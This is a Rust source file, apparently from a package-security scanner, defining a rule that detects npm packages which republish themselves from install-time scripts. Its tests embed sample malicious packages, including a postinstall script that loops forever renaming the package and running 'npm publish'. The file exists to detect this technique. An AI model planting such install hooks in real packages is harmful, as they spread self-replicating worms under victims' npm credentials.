//! `code/self-publish`.

use super::{chain, finding, per_signal};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Install-time code runs `npm publish`: the package republishes itself (or a renamed copy) with the installer's login.
    ///
    /// ## What it detects
    /// `npm publish` (also `pnpm`/`yarn publish`) in an install-time lifecycle script, in a shell file install-time
    /// code starts, or spawned from install-time JavaScript. npm runs lifecycle scripts in the package's own folder,
    /// so what gets published is the installed package itself, under the installing user's npm credentials — no
    /// token has to be read for that.
    ///
    /// ## Why it matters
    /// Self-replicating packages spread this way: the tea.xyz spam farms (2024–2025) renamed the package, bumped the
    /// version and published again in a loop with the victim's login; Shai-Hulud (2025) republished every package the
    /// victim maintained.
    ///
    /// ## Example
    /// `"postinstall": "node auto.js"` where `auto.js` rewrites `package.json` and runs `execSync('npm publish')`.
    ///
    /// ## Known false positives
    /// Release tools (semantic-release, np, release-it) run `npm publish` for the user's project when the user runs
    /// them: code that is not install-time is not reported. A `prepare` script runs only for git and local installs
    /// (and before the author's own `npm publish`), so it is not install-time either.
    pub static SELF_PUBLISH = { id: "code/self-publish", severity: Severity::Critical };
}

/// One finding per install-time publish.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    per_signal(p, Kind::NpmPublish, |f, s| {
        if !crate::scripts::at_install(f, s.line) {
            return None;
        }
        // In JavaScript the publish must be a command line it spawns, not a message.
        let spawned = f.kind != crate::classify::FileKind::JavaScript
            || f.signals
                .iter()
                .any(|o| o.line == s.line && o.kind == Kind::Spawn);
        if !spawned {
            return None;
        }
        let rewrites = f.has(Kind::PackageJsonWrite);
        let msg = if rewrites {
            "install-time code rewrites package.json and runs `npm publish` on the installed package".to_string()
        } else {
            format!(
                "install-time code runs `npm publish` on the installed package: `{}`",
                s.detail
            )
        };
        Some(finding(
            &SELF_PUBLISH,
            SELF_PUBLISH.default_severity,
            f,
            s,
            Locality::Function,
            msg,
            chain(p, f, s, &[Kind::PackageJsonWrite, Kind::NpmToken]),
        ))
    })
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::rules::test_util::{hits, scan};

    #[test]
    fn positive_rename_and_publish_at_install() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node auto.js\"}}",
            ),
            (
                "auto.js",
                "const fs = require('fs');\nconst { execSync } = require('child_process');\nconst f = __dirname + '/package.json';\nfor (;;) {\n  const pkg = JSON.parse(fs.readFileSync(f, 'utf8'));\n  pkg.name = 'x-' + Math.random().toString(36).slice(2, 6);\n  fs.writeFileSync(f, JSON.stringify(pkg));\n  try { execSync('npm publish --access public', { cwd: __dirname, stdio: 'ignore' }); } catch (e) {}\n}\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/self-publish"),
            vec![("auto.js".to_string(), 8)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    #[test]
    fn positive_lifecycle_command() {
        let s = scan(&[(
            "package.json",
            "{\n\"name\":\"t\",\n\"scripts\":{\n\"postinstall\":\"npm version patch --no-git-tag-version && npm publish\"\n}}",
        )]);
        assert_eq!(
            hits(&s, "code/self-publish"),
            vec![("package.json".to_string(), 4)]
        );
    }

    /// A release tool publishes the user's project when the user runs its CLI.
    #[test]
    fn negative_release_tool() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"rel\",\"version\":\"1.0.0\",\"bin\":{\"rel\":\"cli.js\"},\"scripts\":{\"prepare\":\"npm run build\"}}",
            ),
            (
                "cli.js",
                "const fs = require('fs');\nconst { execFileSync } = require('child_process');\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\npkg.version = process.argv[2];\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));\nexecFileSync('npm', ['publish'], { stdio: 'inherit' });\n",
            ),
        ]);
        assert!(hits(&s, "code/self-publish").is_empty());
    }
}
